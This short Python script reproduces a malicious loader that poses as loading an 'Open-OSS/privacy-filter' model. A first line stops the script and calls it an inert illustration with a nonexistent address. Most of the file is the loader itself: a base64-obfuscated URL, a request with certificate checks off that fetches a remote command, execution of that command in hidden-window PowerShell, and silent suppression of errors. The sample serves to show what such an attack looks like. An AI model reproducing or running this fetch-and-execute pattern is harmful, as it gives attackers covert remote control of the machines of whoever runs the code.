raise SystemExit("Inert: this line ends the script, and no address in it exists. It shows what the real loader looked like.")

import base64
import subprocess

import requests
from transformers import AutoModelForTokenClassification

model = AutoModelForTokenClassification.from_pretrained("Open-OSS/privacy-filter")

source = base64.b64decode("aHR0cHM6Ly9wYXN0ZS5leGFtcGxlLmludmFsaWQvYi8wMDAw").decode()
try:
    command = requests.get(source, verify=False).json()["cmd"]
    subprocess.run(["powershell", "-WindowStyle", "Hidden", "-Command", command])
except Exception:
    pass
